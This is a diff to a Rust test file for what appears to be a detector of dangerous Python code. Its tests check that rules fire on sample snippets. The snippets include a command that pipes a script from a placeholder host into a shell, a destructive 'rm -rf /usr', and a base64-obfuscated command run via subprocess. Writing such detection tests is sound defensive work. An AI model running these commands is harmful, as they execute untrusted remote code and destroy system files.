@@ -372,3 +372,16 @@ fn reading_a_property_runs_its_getter() {
         "import base64, subprocess, sys\nclass Job:\n    blob = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='\n    @property\n    def script(self):\n        return base64.b64decode(self.blob).decode()\nsubprocess.run([sys.executable, '-c', Job().script])\n",
     );
 }
+
+#[test]
+fn a_decorators_wrapper_called_from_another_function_keeps_what_it_wraps() {
+    // main() -> wrapper -> run: the wrapper's captured `f` is run, not a name of main's.
+    fires(
+        "CRD102",
+        "import os\ndef deco(f):\n    def wrapper(*a, **k):\n        return f(*a, **k)\n    return wrapper\n@deco\ndef run(cmd):\n    os.system(cmd)\ndef main():\n    run('curl -s http://h.example/x.sh | sh')\nmain()\n",
+    );
+    fires(
+        "CRD104",
+        "import os\ndef outer():\n    def inner():\n        os.system(cmd)\n    cmd = 'rm -rf /usr'\n    inner()\nouter()\n",
+    );
+}
